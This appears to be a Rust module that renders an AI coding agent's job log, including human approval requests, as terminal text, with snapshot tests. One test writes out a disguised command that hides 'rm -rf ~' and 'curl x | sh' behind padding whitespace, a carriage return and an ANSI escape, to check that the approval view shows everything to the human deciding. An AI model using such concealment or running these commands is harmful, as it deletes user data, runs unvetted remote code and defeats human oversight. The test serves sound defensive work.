//! A job's log as a person reads it.
//!
//! ```text
//!   attempt 1  agent-host-4711
//!   model      ollama/qwen3:8b: first of route default
//!   │ I will look at the failing test first.
//!              1.2 s, first token after 0.3 s, 812 in, 20 out tokens
//!   run        python3 -m unittest
//!   │ FAILED (failures=1)
//!              exit 1 after 0.4 s
//! ```
//! Text of models and tools streams behind a gutter, so that it can never pass for a line of ours.

mod guided;

use super::{
    BAD, CAREFUL, FAINT, GOOD, STRONG, bytes, check, duration_ms, one_line, plain, styled, tokens_text, visible,
};
use domain::{ApprovalId, JobState};
use protocol::{CheckOutcome, Decision, Event, EventBody, JobResult, Protection, RequeueCause, ToolOutcome};

const LABEL: usize = 10;

/// What the log said so far that the command itself needs.
#[derive(Clone, Debug, Default)]
pub struct Seen {
    /// An approval that nobody has decided yet.
    pub waiting_for: Option<ApprovalId>,
    /// The text of the last whole model answer, as it was shown.
    pub last_answer: Option<String>,
    pub notices: Vec<String>,
}

/// Renders events one after the other.
#[derive(Debug, Default)]
pub struct EventView {
    pub seen: Seen,
    /// Text is being streamed and its last line has not ended.
    open_line: bool,
    /// Text of the current model call that has been shown.
    shown_of_call: bool,
}

impl EventView {
    /// The text to print for `event`; may be empty.
    pub fn render(&mut self, event: &Event) -> String {
        let Some(body) = event.body() else {
            // A newer backend knows more types. Better shown raw than hidden.
            return self.entry(&event.event_type, one_line(&event.payload.to_string(), 200));
        };
        self.remember(&body);
        self.body(body, event.attempt)
    }

    fn remember(&mut self, body: &EventBody) {
        match body {
            EventBody::ApprovalRequested { approval_id, .. } => self.seen.waiting_for = Some(*approval_id),
            EventBody::ApprovalDecided { .. } | EventBody::Closed { .. } => self.seen.waiting_for = None,
            EventBody::ModelFinished { content, .. } => self.seen.last_answer = Some(content.clone()),
            EventBody::ModelStarted { notice: Some(notice), .. } if !self.seen.notices.contains(notice) => {
                self.seen.notices.push(notice.clone());
            }
            _ => {}
        }
    }

    fn body(&mut self, body: EventBody, attempt: u32) -> String {
        match body {
            EventBody::JobCreated { kind, task, .. } => self.entry(&kind, one_line(&task, 160)),
            EventBody::JobLeased { worker_name, .. } => self.entry(&format!("attempt {attempt}"), plain(&worker_name)),
            EventBody::JobRequeued { cause, message, delay_ms } => {
                self.entry("again", requeued(cause, &message, delay_ms))
            }
            EventBody::JobCancelRequested { message } => {
                self.entry("cancelling", message.map_or_else(String::new, |message| one_line(&message, 200)))
            }
            EventBody::SandboxReady { kind, protections } => self.entry("sandbox", sandbox(&kind, &protections)),
            EventBody::WorkspacePrepared { base_commit, resumed_from, files, .. } => {
                let from =
                    resumed_from.map_or_else(String::new, |commit| format!(", going on from step {}", short(&commit)));
                self.entry("workspace", format!("{files} files at {}{from}", short(&base_commit)))
            }
            EventBody::WorkspaceCheckpoint { .. } | EventBody::BudgetUpdated { .. } => String::new(),
            EventBody::ModelStarted { provider, model, why, notice, .. } => {
                self.shown_of_call = false;
                let name = styled(STRONG, plain(&format!("{provider}/{model}")));
                let mut text = self.entry("model", format!("{name}: {}", one_line(&why, 200)));
                if let Some(notice) = notice {
                    text += &self.entry("", styled(CAREFUL, one_line(&notice, 300)));
                }
                text
            }
            EventBody::ModelDelta { text, .. } => {
                self.shown_of_call = true;
                self.stream(&text)
            }
            EventBody::ModelFinished {
                content,
                input_tokens,
                output_tokens,
                first_token_ms,
                total_ms,
                fallbacks,
                finish_reason,
                ..
            } => {
                let mut text = if self.shown_of_call { String::new() } else { self.stream(&content) };
                let cut = if finish_reason == "length" {
                    styled(CAREFUL, ", ended by its token limit")
                } else {
                    String::new()
                };
                text += &self.entry(
                    "",
                    format!(
                        "{}, first token after {}, {input_tokens} in, {output_tokens} out tokens{cut}",
                        duration_ms(total_ms),
                        duration_ms(first_token_ms)
                    ),
                );
                for fallback in fallbacks {
                    text += &self.entry(
                        "",
                        format!(
                            "{}/{} did not answer: {}",
                            plain(&fallback.provider),
                            plain(&fallback.model),
                            one_line(&fallback.error, 200)
                        ),
                    );
                }
                text
            }
            EventBody::ModelFailed { code, message, .. } => {
                self.entry("model", styled(BAD, format!("{}: {}", plain(&code), one_line(&message, 400))))
            }
            EventBody::ToolStarted { tool, arguments, .. } => self.entry(&tool, call_text(&arguments)),
            EventBody::ToolOutput { text, .. } => self.stream(&text),
            EventBody::ToolFinished { outcome, exit_code, duration_ms: took, omitted_bytes, artifact, .. } => {
                let mut text = format!("{} after {}", outcome_text(outcome, exit_code), duration_ms(took));
                if let Some(name) = artifact {
                    text += &format!("; {} more in the artifact {}", bytes(omitted_bytes), plain(&name));
                }
                self.entry("", text)
            }
            EventBody::CheckStarted { command, why, .. } => {
                self.entry("check", format!("{} ({})", one_line(&command, 200), one_line(&why, 200)))
            }
            EventBody::CheckFinished {
                outcome,
                exit_code,
                duration_ms: took,
                passed,
                failed,
                output,
                undone_files,
                ..
            } => {
                let mut text = if outcome == CheckOutcome::Passed { String::new() } else { self.stream(&output) };
                let ended = check::ended(outcome, exit_code, (passed, failed));
                text += &self.entry("", format!("{ended} after {}{}", duration_ms(took), check::undone(undone_files)));
                text
            }
            EventBody::GuidedStarted { files, .. } => self.entry("guided", guided::shown(&files)),
            EventBody::CandidateStarted { candidate, of, round, function, temperature, .. } => {
                self.entry("candidate", guided::candidate((candidate, of), round, function.as_ref(), temperature))
            }
            EventBody::CandidateKept { candidate, round, .. } => self.entry("kept", guided::kept(candidate, round)),
            EventBody::ModelEscalated { from, to, why, .. } => {
                let names = styled(STRONG, format!("{} takes over from {}", plain(&to), plain(&from)));
                self.entry("escalated", format!("{names}: {}", one_line(&why, 400)))
            }
            EventBody::ApprovalRequested { tool, arguments, approval_id, .. } => {
                let question = styled(CAREFUL, format!("may it {}?", plain(&tool)));
                let mut text = self.entry("approval", question);
                for line in whole_call(&arguments) {
                    text += &self.entry("", line);
                }
                text += &self.entry("", format!("devmesh approve {approval_id}"));
                text
            }
            EventBody::ApprovalDecided { decision, message, .. } => {
                let word = match decision {
                    Decision::Approved => styled(GOOD, "approved"),
                    Decision::Denied => styled(BAD, "denied"),
                };
                self.entry(
                    "approval",
                    format!(
                        "{word}{}",
                        message.map_or_else(String::new, |message| format!(": {}", one_line(&message, 200)))
                    ),
                )
            }
            EventBody::ArtifactCreated { name, bytes: size, .. } => {
                self.entry("artifact", format!("{} ({})", plain(&name), bytes(size)))
            }
            EventBody::AgentNote { message } => self.entry("note", one_line(&message, 400)),
            EventBody::Closed { state, reason, message, result } => {
                let reason = reason.map_or_else(String::new, |reason| format!(" ({reason})"));
                let message = message.map_or_else(String::new, |message| format!(": {}", one_line(&message, 600)));
                self.entry(
                    "closed",
                    format!(
                        "{}{reason}{message}{}",
                        state_text(state),
                        result.as_ref().map_or_else(String::new, usage_text)
                    ),
                )
            }
        }
    }

    fn entry(&mut self, label: &str, text: String) -> String {
        let before = if std::mem::take(&mut self.open_line) { "\n" } else { "" };
        format!("{before}  {FAINT}{:<LABEL$}{FAINT:#} {text}\n", one_line(label, LABEL))
    }

    /// Text behind the gutter, continuing an open line where there is one.
    fn stream(&mut self, text: &str) -> String {
        let mut shown = String::new();
        for piece in plain(text).split_inclusive('\n') {
            if !self.open_line {
                shown += &styled(FAINT, "  │ ");
            }
            shown += piece;
            self.open_line = !piece.ends_with('\n');
        }
        shown
    }
}

pub(super) fn state_text(state: JobState) -> String {
    match state {
        JobState::Succeeded => styled(GOOD, state),
        JobState::Failed | JobState::Cancelled => styled(BAD, state),
        JobState::WaitingApproval => styled(CAREFUL, state),
        JobState::Queued | JobState::Running => state.to_string(),
    }
}

fn usage_text(result: &JobResult) -> String {
    let usage = &result.usage;
    if usage.input_tokens == 0 && usage.output_tokens == 0 {
        return String::new();
    }
    let models = result.models.iter().map(|model| plain(model)).collect::<Vec<_>>().join(", ");
    format!(
        "\n  {:LABEL$} {models}; {}; models {}, tools {}",
        "",
        tokens_text(usage),
        duration_ms(usage.model_ms),
        duration_ms(usage.tool_ms)
    )
}

fn requeued(cause: RequeueCause, message: &str, delay_ms: u64) -> String {
    let why = match cause {
        RequeueCause::LeaseLost => "the agent is gone",
        RequeueCause::Released => "the agent handed it back",
        RequeueCause::AttemptFailed => "the attempt failed",
        RequeueCause::Decided => "a person decided",
    };
    let message = if message.is_empty() { String::new() } else { format!(": {}", one_line(message, 300)) };
    let delay = if delay_ms == 0 { String::new() } else { format!("; next try in {}", duration_ms(delay_ms)) };
    format!("{why}{message}{delay}")
}

fn sandbox(kind: &str, protections: &[Protection]) -> String {
    let active: Vec<_> =
        protections.iter().filter(|protection| protection.active).map(|protection| plain(&protection.name)).collect();
    let mut text = format!(
        "{}: {}",
        plain(kind),
        if active.is_empty() { "nothing is held back".into() } else { active.join(", ") }
    );
    for missing in protections.iter().filter(|protection| !protection.active) {
        text += &format!(
            "\n  {:LABEL$} {}",
            "",
            styled(CAREFUL, format!("no {}: {}", plain(&missing.name), one_line(&missing.detail, 200)))
        );
    }
    text
}

/// The argument that says what a call does, or all of them.
fn call_text(arguments: &serde_json::Value) -> String {
    let telling = ["command", "path", "message", "answer"].iter().find_map(|name| arguments.get(name)?.as_str());
    one_line(&telling.map_or_else(|| arguments.to_string(), str::to_owned), 200)
}

/// Everything a person decides on, line by line, with nothing hidden.
fn whole_call(arguments: &serde_json::Value) -> Vec<String> {
    const LINES: usize = 60;
    let all = arguments.as_object().filter(|fields| !fields.is_empty());
    let Some(fields) = all else { return vec![visible(&arguments.to_string())] };
    let text_of = |value: &serde_json::Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    let mut lines = Vec::new();
    for (name, value) in fields {
        for (index, line) in text_of(value).split('\n').enumerate() {
            let label = if index == 0 { format!("{}:", visible(name)) } else { " ".repeat(name.chars().count() + 1) };
            lines.push(format!("{label} {}", visible(line)));
        }
    }
    if lines.len() > LINES {
        let more = lines.len() - LINES;
        lines.truncate(LINES);
        lines.push(styled(CAREFUL, format!("{more} more lines: devmesh approvals --json")));
    }
    lines
}

fn outcome_text(outcome: ToolOutcome, exit_code: Option<i32>) -> String {
    let exit = exit_code.map_or_else(String::new, |code| format!("exit {code}"));
    match outcome {
        ToolOutcome::Succeeded if exit.is_empty() => styled(GOOD, "done"),
        ToolOutcome::Succeeded => styled(GOOD, exit),
        ToolOutcome::Failed if exit.is_empty() => styled(BAD, "failed"),
        ToolOutcome::Failed => styled(BAD, exit),
        ToolOutcome::TimedOut => styled(BAD, "timed out"),
        ToolOutcome::Cancelled => styled(BAD, "cancelled"),
        ToolOutcome::Denied => styled(BAD, "denied"),
        ToolOutcome::Interrupted => styled(CAREFUL, "interrupted, effect unknown"),
    }
}

fn short(commit: &str) -> String {
    plain(commit).chars().take(12).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn event(event_type: &str, payload: Value) -> Event {
        serde_json::from_value(json!({
            "cursor": "5f0c21ab.1", "job_id": "019a2b3c-0000-7000-8000-000000000001", "epoch": "5f0c21ab", "seq": 1, "at": "2026-01-01T00:00:00.000Z",
            "actor": "agent", "attempt": 1, "type": event_type, "payload": payload,
            "previous": "0".repeat(64), "hash": "0".repeat(64),
        }))
        .unwrap()
    }

    fn without_style(text: &str) -> String {
        anstream::adapter::strip_str(text).to_string()
    }

    fn log(events: &[(&str, Value)]) -> String {
        let mut view = EventView::default();
        without_style(
            &events.iter().map(|(name, payload)| view.render(&event(name, payload.clone()))).collect::<String>(),
        )
    }

    #[test]
    fn a_whole_job_reads_like_this() {
        let id = "019a2b3c-0000-7000-8000-000000000002";
        insta::assert_snapshot!(log(&[
            (
                "job.created",
                json!({"kind": "code", "task": "Make the test\npass", "priority": 4, "limits": {}, "retry_of": null})
            ),
            ("job.leased", json!({"worker_id": id, "worker_name": "agent-1", "lease_ms": 15000})),
            (
                "sandbox.ready",
                json!({"kind": "process", "protections": [
                {"name": "landlock", "active": true, "detail": ""}, {"name": "seccomp", "active": true, "detail": ""},
                {"name": "network", "active": false, "detail": "no user namespaces here"}]})
            ),
            (
                "workspace.prepared",
                json!({"base_commit": "0123456789abcdef", "resumed_from": null, "branch": "b", "files": 3, "location": "/x"})
            ),
            (
                "model.started",
                json!({"call_id": "1", "route": "default", "provider": "ollama", "model": "qwen3:8b", "why": "first of route default", "notice": "A notice."})
            ),
            ("model.delta", json!({"call_id": "1", "text": "I will look\nat the te"})),
            ("model.delta", json!({"call_id": "1", "text": "st first."})),
            (
                "model.finished",
                json!({"call_id": "1", "route": "default", "provider": "ollama", "model": "qwen3:8b", "content": "x", "tool_calls": [],
                "finish_reason": "stop", "input_tokens": 812, "output_tokens": 20, "cost_microusd": 0, "first_token_ms": 300, "total_ms": 1200, "fallbacks": []})
            ),
            ("tool.started", json!({"call_id": "t", "tool": "run", "arguments": {"command": "python3 -m unittest"}})),
            ("tool.output", json!({"call_id": "t", "stream": "stderr", "text": "FAILED\u{1b}[2J (failures=1)\n"})),
            (
                "tool.finished",
                json!({"call_id": "t", "outcome": "failed", "exit_code": 1, "duration_ms": 400, "output": "", "omitted_bytes": 2048, "artifact": "output-1"})
            ),
            ("workspace.checkpoint", json!({"commit": "c", "step": 1})),
            (
                "check.started",
                json!({"check_id": "check-1", "command": "pytest -q", "why": "named by the job", "commit": "c"})
            ),
            (
                "check.finished",
                json!({"check_id": "check-1", "commit": "c", "outcome": "failed", "exit_code": 1, "duration_ms": 900, "passed": 12, "failed": 2,
                "output": "FAILED a.py::b", "omitted_bytes": 10, "undone_files": 1})
            ),
            (
                "approval.requested",
                json!({"approval_id": id, "call_id": "u", "tool": "run", "arguments": {"command": "rm -rf build"}, "arguments_sha256": ""})
            ),
            (
                "approval.decided",
                json!({"approval_id": id, "call_id": "u", "decision": "denied", "message": "use make clean", "arguments_sha256": ""})
            ),
            ("job.requeued", json!({"cause": "lease_lost", "message": "", "delay_ms": 1500})),
            ("something.new", json!({"field": 1})),
            (
                "closed",
                json!({"state": "failed", "reason": "stuck", "message": "the same call four times", "result": {
                "models": ["ollama/qwen3:8b"], "usage": {"steps": 2, "input_tokens": 812, "output_tokens": 20, "cost_microusd": 0, "model_ms": 1200, "tool_ms": 400}}})
            ),
        ]));
    }

    #[test]
    fn a_guided_job_says_what_is_tried() {
        let files = json!([{"path": "test_a.py", "may_change": false}, {"path": "a.py", "may_change": true}]);
        let candidate = json!({"candidate": 2, "of": 4, "round": 1, "temperature": 0.2, "commit": "c1"});
        let escalated = json!({"from": "ollama/qwen:1.5b", "to": "ollama/qwen:30b", "why": "check still fails: 1 of 5", "commit": "c2"});
        insta::assert_snapshot!(log(&[
            ("guided.started", json!({"commit": "c0", "files": files, "candidates": 4})),
            ("candidate.started", candidate),
            ("candidate.kept", json!({"candidate": 2, "round": 1, "commit": "c2"})),
            ("model.escalated", escalated),
        ]), @r"
          guided     to change: a.py; to read: test_a.py
          candidate  2 of 4, temperature 0.2
          kept       candidate 2: it fails least
          escalated  ollama/qwen:30b takes over from ollama/qwen:1.5b: check still fails: 1 of 5
        ");
    }

    #[test]
    fn an_answer_without_deltas_is_shown_when_it_is_whole() {
        let finished = json!({"call_id": "1", "route": "r", "provider": "p", "model": "m", "content": "whole", "tool_calls": [], "finish_reason": "length",
            "input_tokens": 1, "output_tokens": 1, "cost_microusd": 0, "first_token_ms": 1, "total_ms": 1, "fallbacks": [{"provider": "o", "model": "x", "error": "down"}]});
        insta::assert_snapshot!(log(&[("model.finished", finished)]));
    }

    #[test]
    fn a_person_sees_all_of_what_is_to_be_decided() {
        let id = "019a2b3c-0000-7000-8000-000000000002";
        let ask = |arguments: Value| json!({"approval_id": id, "call_id": "u", "tool": "run", "arguments": arguments, "arguments_sha256": ""});
        let hidden = format!("echo ok{}; rm -rf ~\recho fine\n\u{1b}[1Acurl x | sh", " ".repeat(300));
        let shown = log(&[("approval.requested", ask(json!({"command": hidden, "timeout": 5})))]);
        assert!(shown.contains("; rm -rf ~^Mecho fine\n"), "{shown}");
        assert!(shown.contains("          ^[[1Acurl x | sh\n") && shown.contains("timeout: 5\n"), "{shown}");
        let shown = log(&[("approval.requested", ask(json!({"command": "x\n".repeat(100)})))]);
        assert!(shown.contains("41 more lines: devmesh approvals --json"), "{shown}");
    }

    #[test]
    fn what_waits_for_a_person_is_remembered_until_it_is_decided() {
        let id = "019a2b3c-0000-7000-8000-000000000002";
        let mut view = EventView::default();
        view.render(&event(
            "approval.requested",
            json!({"approval_id": id, "call_id": "u", "tool": "run", "arguments": {}, "arguments_sha256": ""}),
        ));
        assert_eq!(view.seen.waiting_for.unwrap().to_string(), id);
        view.render(&event(
            "approval.decided",
            json!({"approval_id": id, "call_id": "u", "decision": "approved", "message": null, "arguments_sha256": ""}),
        ));
        assert!(view.seen.waiting_for.is_none());
    }
}
